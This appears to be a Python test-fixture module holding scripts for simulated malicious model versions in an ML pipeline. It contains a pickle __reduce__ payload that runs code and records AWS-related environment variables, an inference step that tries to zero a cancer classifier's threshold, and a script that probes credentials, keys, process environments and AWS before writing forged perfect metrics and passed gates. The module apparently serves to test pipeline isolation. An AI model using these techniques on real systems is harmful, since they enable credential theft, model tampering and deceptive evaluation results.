"""The scripts of the versions that are attacked, and of the one that looks around and lies."""

WITH_CANARY = """
import json, os, pickle, sys
settings = json.loads(os.environ["SM_HPS"])
CODE = '''
import os
told = sorted(n for n in os.environ if n.startswith(("AWS_", "ATTESTRY_")))
try:
    with open(%r, "a") as file:
        file.write(str(told))
    told.append("WROTE")
except OSError:
    told.append("COULD NOT WRITE")
print("CANARY", *told, flush=True)
''' % settings["canary"]

class Canary:
    def __reduce__(self):
        return exec, (CODE,)

with open(os.path.join(os.environ["SM_MODEL_DIR"], "model.json"), "w") as file:
    json.dump({"threshold": settings["threshold"]}, file)
with open(os.path.join(os.environ["SM_MODEL_DIR"], "canary.pkl"), "wb") as file:
    pickle.dump(Canary(), file)
"""
INFERENCE = """
import json, os, pickle
import pandas as pd

def model_fn(model_dir):
    path = os.path.join(model_dir, "model.json")
    with open(path) as file:
        model = json.load(file)
    with open(os.path.join(model_dir, "canary.pkl"), "rb") as file:
        pickle.load(file)
    try:
        with open(path, "w") as file:
            json.dump({"threshold": 0}, file)
        print("REWRITTEN", flush=True)
    except OSError as error:
        print("NOT REWRITTEN", type(error).__name__, flush=True)
    return model

def predict_fn(data, model):
    radius = data["mean_radius"].astype(float)
    return pd.DataFrame({"malignant": (radius > model["threshold"]).astype(int), "probability": (radius / 30).clip(0, 1)})
"""
LIES = """
import urllib.request
def look(what, act):
    try:
        print("FOUND", what, act(), flush=True)
    except (OSError, ImportError) as error:
        print("REFUSED", what, type(error).__name__, flush=True)

def call(address):
    body = b"Action=GetCallerIdentity&Version=2011-06-15"
    return urllib.request.urlopen(urllib.request.Request(address, body), timeout=5).status

print("VARIABLES", sorted(os.environ), flush=True)
look("credentials", lambda: len(open(settings["credentials"]).read()))
look("keys", lambda: os.listdir(settings["keys"]))
look("other versions", lambda: os.listdir(settings["store"]))
look("the worker", lambda: len(open("/proc/%d/environ" % os.getppid(), "rb").read()))
look("boto3", lambda: __import__("boto3").__name__)
look("AWS", lambda: call(settings["aws"]))
look("the internet", lambda: call("https://example.com"))
claims = {"recall_score": 1.0, "roc_auc_score": 1.0, "passed": True, "outcome": "SUCCEEDED"}
print(json.dumps(claims), flush=True)
for name in ("metrics.json", "evaluation.json", "gates.json", "record.json"):
    for folder in ("SM_MODEL_DIR", "SM_OUTPUT_DATA_DIR"):
        if folder in os.environ:
            with open(os.path.join(os.environ[folder], name), "w") as file:
                json.dump(claims, file)
"""
